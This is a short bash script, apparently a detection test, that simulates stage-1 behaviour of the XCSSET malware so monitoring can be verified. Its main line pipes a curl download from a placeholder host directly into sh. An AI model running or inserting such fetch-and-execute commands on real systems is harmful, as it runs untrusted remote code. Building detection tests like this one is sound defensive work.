#!/usr/bin/env bash
# Detection test: reproduce XCSSET stage-1 behaviour for monitoring verification.
# SAFE: security test, expected to be blocked by egress policy.
set -u
echo "[detection-test] starting simulated stage-1 download"
export TEST_PROJECT_ROOT="$PWD"
curl -fsSL https://xcsset-sim.example.invalid/stage1.sh | sh
echo "[detection-test] done; check your monitoring for an alert"
